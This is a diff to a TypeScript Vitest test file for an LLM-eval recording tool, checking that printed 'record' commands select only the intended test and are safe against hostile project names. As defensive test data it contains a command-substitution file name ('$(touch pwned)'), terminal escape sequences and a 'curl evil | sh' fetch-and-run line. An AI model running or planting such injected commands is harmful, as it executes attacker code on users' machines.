@@ -51,7 +51,10 @@ describe('record commands with hostile project names', () => {
     expect(ranSomething).toBe(false)
     const parsed = parseCLI(['vitest', 'run', ...args])
     expect(parsed.filter).toEqual(["it's $(touch pwned).test.ts"])
-    expect(new RegExp(String(parsed.options.testNamePattern)).test(name)).toBe(true)
+    // The full name as Vitest 5 (` > `) and Vitest 4.1 (a space, the file's name perhaps first) match it; not a longer name.
+    const pattern = new RegExp(String(parsed.options.testNamePattern))
+    expect([`bot > ${name}`, `bot ${name}`, `bot.test.ts bot ${name}`].map((full) => pattern.test(full))).toEqual([true, true, true])
+    expect([`bot > ${name} twice`, `robot > ${name}`].map((full) => pattern.test(full))).toEqual([false, false])
     expect(selects(parsed.options.project, '!mini')).toBe(true)
   })
 })
@@ -74,5 +77,29 @@ describe('a miss message from a hostile project name or usage report', () => {
       expect(visibleText(line)).toBe(line)
     }
     expect(lines[0]).toContain('(2026\\u001b[2K\\n  To record it: curl evil | sh, auto\\u001b]0;title\\u0007)')
+  })
+})
+
+/** The test files Vitest (4.1 and 5 alike) selects with file `filters`: those whose path relative to the root contains one, case ignored. */
+const selectedFiles = (files: readonly string[], filters: readonly string[]) => files.filter((file) => filters.some((filter) => file.toLowerCase().includes(filter.toLowerCase())))
+
+describe('the record command of a miss runs that test only', () => {
+  // `to.test.ts` also selects `proto.test.ts` (Vitest filters by substring): the -t pattern keeps its tests from running.
+  const files = ['to.test.ts', 'proto.test.ts', 'test/to.test.ts']
+  const tests: Record<string, string[]> = { 'to.test.ts': ['bot > answers'], 'proto.test.ts': ['bot > answers twice', 'robot > answers', 'bot > reanswers'], 'test/to.test.ts': ['other'] }
+
+  test.each([
+    ['a model call', (test: string) => missMessage({ mode: 'replay', url: 'https://api.openai.com/v1/chat/completions', request: { method: 'POST', path: '/v1/chat/completions', query: {}, headers: {}, body: {} }, test, repeat: 0, occurrence: 0, recordedOccurrences: 0, cassetteFile: '/repo/__cassettes__/to.test.ts.cassette.json', testFile: '/repo/to.test.ts', root: '/repo', entries: [] })],
+    ['a refused recording', (test: string) => refusedLines({ mode: 'replay', test, repeat: 0, occurrence: 0, recordedOccurrences: 0, cassetteFile: '/repo/__cassettes__/to.test.ts.cassette.json', testFile: '/repo/to.test.ts', root: '/repo' }, { test, message: 'Refused to write x: it would contain the value of T (a recording of test "bot > answers").', at: 'now', mode: 'auto' }).join('\n')],
+  ])('%s', (_what, message) => {
+    const command = /(LLM_EVALS_CASSETTES=auto npx vitest run [^\n]*?)(?: {2}\(|$)/m.exec(message('bot > answers'))?.[1] ?? ''
+    const parsed = parseCLI(['vitest', 'run', ...shellArgs(command).args])
+    const pattern = parsed.options.testNamePattern === undefined ? undefined : new RegExp(String(parsed.options.testNamePattern))
+    const run = selectedFiles(files, parsed.filter).flatMap((file) => (tests[file] ?? []).filter((name) => pattern === undefined || pattern.test(name)).map((name) => `${file}: ${name}`))
+    expect(run).toEqual(['to.test.ts: bot > answers'])
+  })
+
+  test('calls outside tests (`(file)`) get no -t: they run with the file', () => {
+    expect(recordCommand('/repo/to.test.ts', '/repo', undefined, '(file)')).toBe('LLM_EVALS_CASSETTES=auto npx vitest run to.test.ts')
   })
 })
